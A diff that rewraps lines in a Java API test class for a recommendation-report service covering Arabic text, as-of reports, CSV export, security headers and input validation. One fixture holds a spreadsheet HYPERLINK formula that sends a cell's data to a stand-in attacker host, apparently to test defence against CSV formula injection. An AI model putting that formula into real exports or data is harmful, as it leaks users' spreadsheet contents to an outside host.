@@ -41,7 +41,8 @@ class ReportTest {
         Response set = ReportData.workPlan(dfr);
         String three = Fixtures.recommendation(set, 3);
         String five = Fixtures.recommendation(set, 5);
-        post(TestTokens.admin(), "/recommendations/" + three + "/status", Map.of("status", "in_progress", "date", "2023-03"))
+        post(TestTokens.admin(), "/recommendations/" + three + "/status",
+                Map.of("status", "in_progress", "date", "2023-03"))
                 .then().statusCode(201);
         ReportData.backdate(set.path("id"), 10);
         String weekAgo = TODAY.minusDays(7).toString();
@@ -50,9 +51,11 @@ class ReportTest {
         given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023?asOf=" + TODAY.minusDays(11))
                 .then().statusCode(200).body("sets", hasSize(0)).body("recommendations", hasSize(0));
 
-        post(TestTokens.admin(), "/recommendations/" + three + "/status", Map.of("status", "implemented", "date", "2023-02"))
+        post(TestTokens.admin(), "/recommendations/" + three + "/status",
+                Map.of("status", "implemented", "date", "2023-02"))
                 .then().statusCode(201);
-        post(TestTokens.admin(), "/recommendations/" + five + "/status", Map.of("status", "dropped")).then().statusCode(201);
+        post(TestTokens.admin(), "/recommendations/" + five + "/status", Map.of("status", "dropped")).then()
+                .statusCode(201);
         Fixtures.adopt(Fixtures.set(dfr, 2023, "9", "توصية أضيفت لاحقاً"));
 
         assertEquals(before, json(dfr, weekAgo), "a later change must not alter an earlier as-of report");
@@ -121,7 +124,8 @@ class ReportTest {
         UUID dfr = ReportData.organization();
         String formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")";
         Map<String, Object> body = Fixtures.set(dfr, 2023);
-        body.put("recommendations", List.of(Map.of("number", 1, "textAr", "العمل على كسب المزيد من الدعم", "textEn", formula)));
+        body.put("recommendations",
+                List.of(Map.of("number", 1, "textAr", "العمل على كسب المزيد من الدعم", "textEn", formula)));
         post(TestTokens.editor(dfr), "/recommendation-sets", body).then().statusCode(201);
         String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
                 .then().statusCode(200).extract().asString();
@@ -136,7 +140,8 @@ class ReportTest {
         ReportData.workPlan(dfr);
         given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html").get("/reports/" + dfr + "/2023")
                 .then().statusCode(200).header("X-Content-Type-Options", "nosniff")
-                .header("Content-Security-Policy", "default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'");
+                .header("Content-Security-Policy",
+                        "default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'");
     }
 
     @Test
@@ -169,8 +174,10 @@ class ReportTest {
         given().auth().oauth2(reader).get("/reports/not-a-uuid/2023")
                 .then().statusCode(400).body("errors[0].field", equalTo("organizationId"));
         given().auth().oauth2(reader).get("/reports/" + dfr + "/twenty")
-                .then().statusCode(400).contentType("application/problem+json").body("errors[0].field", equalTo("year"));
-        given().auth().oauth2(reader).get("/reports/" + dfr + "/1800").then().statusCode(400).body("errors[0].field", equalTo("year"));
+                .then().statusCode(400).contentType("application/problem+json")
+                .body("errors[0].field", equalTo("year"));
+        given().auth().oauth2(reader).get("/reports/" + dfr + "/1800").then().statusCode(400)
+                .body("errors[0].field", equalTo("year"));
         given().auth().oauth2(reader).get("/reports/" + dfr + "/2023?asOf=2023-02-30")
                 .then().statusCode(400).body("errors[0].field", equalTo("asOf"));
         given().auth().oauth2(reader).get("/reports/" + dfr + "/2023?asOf=yesterday")
